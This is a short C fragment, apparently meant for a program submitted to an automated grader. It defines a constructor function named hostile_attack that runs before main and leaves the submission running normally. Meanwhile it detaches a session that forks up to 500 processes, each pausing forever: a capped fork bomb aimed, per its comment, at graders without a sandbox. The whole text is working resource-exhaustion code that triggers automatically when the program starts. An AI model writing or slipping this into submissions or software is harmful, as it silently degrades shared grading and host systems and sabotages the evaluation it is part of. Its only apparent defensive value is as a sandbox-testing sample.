/* Starts processes until the system says no (at most 500 a run, so that a grader without a sandbox is
 * hurt but not felled), each waiting forever in a session of its own. */
__attribute__((constructor)) static void hostile_attack(void)
{
    pid_t leader = fork();
    if (leader != 0)
        return;  /* the submission itself goes on to main */
    setsid();
    for (int i = 0; i < 500; i++) {
        pid_t p = fork();
        if (p < 0)
            break;
        if (p == 0) {
            pause();
            _exit(0);
        }
    }
    pause();
    _exit(0);
}
